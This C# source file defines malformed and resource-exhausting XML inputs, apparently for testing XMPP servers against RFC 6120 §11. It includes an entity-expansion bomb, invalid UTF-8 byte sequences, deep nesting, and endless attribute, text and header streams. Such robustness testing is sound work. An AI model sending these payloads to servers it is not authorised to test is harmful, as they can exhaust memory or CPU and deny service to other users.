using System.Text;

namespace XmppPeer.Attacks;

/// <summary>XML that a stream may not carry (RFC 6120 §11), or that costs its reader more than its writer.</summary>
public static class XmlAttacks
{
    private const int Much = 4 << 20;

    public static readonly IReadOnlyDictionary<string, Attack> All = new Dictionary<string, Attack>(StringComparer.Ordinal)
    {
        ["comment"] = Says("<!-- hidden -->"),
        ["processing-instruction"] = Says("<?target data?>"),
        ["doctype"] = Says("<!DOCTYPE stream [<!ENTITY a 'b'>]>"),
        ["entity-bomb"] = new(Manners.Connected, g => g.Stream.SendAsync("<?xml version='1.0'?><!DOCTYPE l [<!ENTITY a 'lol'><!ENTITY b '&a;&a;&a;&a;'>]><stream:stream>&b;")),
        ["entity"] = new(Manners.Proved, g => g.Stream.SendAsync(g.Message("&lol;"))),
        ["comment-in-stanza"] = new(Manners.Proved, g => g.Stream.SendAsync(g.Message("a<!-- b -->c"))),
        ["undeclared-prefix"] = Says("<x:message><body/></x:message>"),
        ["undeclared-attribute-prefix"] = Says("<message x:a='b'/>"),
        ["overlong-utf8"] = new(Manners.Proved, g => BytesAsync(g, [0xC0, 0xAF])),
        ["surrogate-utf8"] = new(Manners.Proved, g => BytesAsync(g, [0xED, 0xA0, 0x80])),
        ["broken-utf8"] = new(Manners.Proved, g => BytesAsync(g, [0xF8, 0x88])),
        ["null-character"] = new(Manners.Proved, g => g.Stream.SendAsync(g.Message("\0"))),
        ["forbidden-reference"] = new(Manners.Proved, g => g.Stream.SendAsync(g.Message("&#1;"))),
        ["wrong-end-tag"] = Says("<message><body>no end</message></message>"),
        ["deep-nesting"] = new(Manners.Proved, async g =>
        {
            await g.Stream.SendAsync("<message>");
            await g.Stream.SendAsync(string.Concat(Enumerable.Repeat("<a>", 10_000)));
        }),
        ["endless-name"] = new(Manners.Proved, g => EndlessAsync(g, "<", "a")),
        ["endless-attribute"] = new(Manners.Proved, g => EndlessAsync(g, "<message a='", "x")),
        ["endless-attributes"] = new(Manners.Proved, async g =>
            await g.Stream.SendAsync("<message " + string.Concat(Enumerable.Range(0, 10_000).Select(i => $"a{i}='' ")) + "/>")),
        ["endless-children"] = new(Manners.Proved, g => EndlessAsync(g, "<message>", "<a/>")),
        // Each prefix behind them would be compared with all of them.
        ["nested-declarations"] = new(Manners.Proved, g => g.Stream.SendAsync("<message>"
            + string.Concat(Enumerable.Range(0, 50).Select(level => $"<a {string.Concat(Enumerable.Range(0, 60).Select(n => $"xmlns:p{level}-{n}='u' "))}>"))
            + string.Concat(Enumerable.Repeat("<p0-0:b/>", 1_000)) + string.Concat(Enumerable.Repeat("</a>", 50)) + "</message>")),
        ["endless-text"] = new(Manners.Proved, g => EndlessAsync(g, "<message><body>", "x")),
        ["endless-header"] = new(Manners.Connected, g => EndlessAsync(g, "<stream:stream a='", "x")),
        ["endless-prolog"] = new(Manners.Connected, g => EndlessAsync(g, "<?xml ", " ")),
        ["text-between-stanzas"] = Says("hello?"),
        ["cdata-end"] = new(Manners.Proved, g => g.Stream.SendAsync(g.Message("]]>"))),
    };

    private static Attack Says(string text) => new(Manners.Proved, g => g.Stream.SendAsync(text));

    private static async Task EndlessAsync(Ground ground, string begin, string more)
    {
        await ground.Stream.SendAsync(begin);
        await ground.RepeatAsync(more, Much);
    }

    private static Task BytesAsync(Ground ground, byte[] bytes)
    {
        var message = ground.Message("|").Split('|');
        return ground.Stream.SendAsync((byte[])[.. Encoding.UTF8.GetBytes(message[0]), .. bytes, .. Encoding.UTF8.GetBytes(message[1])]);
    }
}
